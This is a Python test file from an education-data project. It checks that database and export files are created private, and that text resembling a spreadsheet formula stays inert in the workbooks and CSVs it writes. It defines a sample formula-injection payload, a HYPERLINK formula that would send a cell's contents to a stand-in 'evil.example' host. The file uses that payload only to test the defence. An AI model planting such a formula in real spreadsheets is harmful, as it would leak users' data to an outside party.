"""Private files and inert cells (issue 11 §2): the database, its WAL, error workbooks and
exports are 0600; text that looks like a formula stays text in every workbook written."""

from __future__ import annotations

import stat
from pathlib import Path

import openpyxl
import pytest

from eduquality.analysis.exports import export_results
from eduquality.ingest import ImportProblems, import_roster
from eduquality.ingest.problems import Problems, write_error_file
from eduquality.outputs import csv_safe, neutralise
from eduquality.store import open_database
from eduquality.store.principals import Principal
from tests.ingest.conftest import roster_sheets, write_xlsx

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_neutralise_rule():
    assert [neutralise(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [neutralise(v) for v in ("张三", "a=b", "", -1, 2.5, None)] == [
        "张三", "a=b", "", -1, 2.5, None]


@pytest.mark.slow
def test_database_and_wal_are_private(tmp_path):
    path = tmp_path / "d.duckdb"
    with open_database(path) as db, db.write() as con:
        con.execute("INSERT INTO district VALUES ('1', '五华区', '昆明市', '云南省')")
        assert _mode(path) == 0o600
        wal = Path(f"{path}.wal")
        if wal.exists():
            assert _mode(wal) == 0o600
    path.chmod(0o644)                       # a database made by an older release
    open_database(path).close()
    assert _mode(path) == 0o600


@pytest.mark.slow
def test_imported_formula_text_is_text_in_the_error_workbook(tmp_path):
    db = open_database(":memory:")
    import_roster(db, write_xlsx(tmp_path / "r.xlsx", roster_sheets()))
    students = roster_sheets()["学生"].head(2).copy()
    students.loc[1, "学校代码"] = EVIL                     # an unknown school, and a formula
    students.loc[0, "姓名"] = EVIL
    bad = tmp_path / "学生.csv"
    students.to_csv(bad, index=False)
    errors = tmp_path / "问题清单.xlsx"
    with pytest.raises(ImportProblems):
        import_roster(db, bad, errors=errors)
    cells = _cells(errors)
    assert EVIL in [c.value for c in cells]
    assert all(c.data_type != "f" for c in cells)
    assert _mode(errors) == 0o600


def test_error_csv_neutralised(tmp_path):
    p = Problems("x.csv")
    p.add("ingest.unknown_student", sheet="s", row=2, column="A", value=EVIL)
    out = write_error_file(p.items, tmp_path / "e.csv")
    assert "'=HYPERLINK" in out.read_text(encoding="utf-8-sig")
    assert _mode(out) == 0o600


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_export_keeps_a_formula_looking_name_as_text(tmp_path, fmt):
    from tests.analysis.test_exports import _db

    db = _db()
    with db.write() as con:
        con.execute("UPDATE student SET name = ? WHERE student_id = 1", [EVIL])
    out = export_results(db, Principal("ops", "researcher"), "E1", tmp_path / f"r.{fmt}",
                         fmt=fmt).path
    assert _mode(out) == 0o600
    if fmt == "xlsx":
        cells = _cells(out)
        assert EVIL in [c.value for c in cells] and all(c.data_type != "f" for c in cells)
    else:
        assert "'" + EVIL.replace('"', '""') in out.read_text(encoding="utf-8-sig")


def test_csv_safe_leaves_numbers():
    import pandas as pd

    frame = pd.DataFrame({"name": ["=x", "李"], "score": [-1.5, 2.0]})
    assert csv_safe(frame).to_dict("list") == {"name": ["'=x", "李"], "score": [-1.5, 2.0]}
